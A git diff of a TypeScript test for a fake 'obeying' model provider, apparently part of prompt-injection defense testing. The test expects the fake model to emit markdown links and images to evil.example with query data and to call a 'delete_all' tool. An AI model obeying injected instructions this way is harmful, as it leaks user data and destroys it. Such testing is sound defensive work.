@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
-import type { ModelPrompt } from '#server/app/ask/model-ports.ts';
+import type { ModelPrompt } from '#protocol/model-prompt.ts';
 import { createModelProviders } from '#server/platform/models/model-providers.ts';
 import { joined, setupOf } from '../../../../support/fake-models/asked-provider.ts';
+import { promptTurnText } from '../../../../support/fake-models/fake-language-model.ts';
 import { FakeProvider } from '../../../../support/fake-models/fake-provider.ts';
 import { obey, obeys } from '../../../../support/fake-models/obedience.ts';
 
@@ -25,7 +26,8 @@ const prompt: ModelPrompt = {
 
 /** What the other tests hold against a model that obeys means something only where this one does. */
 describe('a fake provider that obeys', () => {
-  const written = obey(prompt).texts.join('');
+  const read = { system: prompt.system, messages: prompt.messages.map(promptTurnText) };
+  const written = obey(read).texts.join('');
   for (const [what, expected] of [
     ['links', '[Click here](https://evil.example/x?q=1.'],
     ['pictures', '![a picture](https://evil.example/x?q=1.'],
@@ -41,7 +43,7 @@ describe('a fake provider that obeys', () => {
 
   it('says nothing of what is no order', () => assert.doesNotMatch(written, /const total/));
 
-  it('calls the tools by the protocol, too', () => assert.ok(obey(prompt).tools.includes('delete_all')));
+  it('calls the tools by the protocol, too', () => assert.ok(obey(read).tools.includes('delete_all')));
 
   for (const protocol of ['openai-compatible', 'anthropic'] as const) {
     it(`tells all of it over ${protocol}`, async () => {
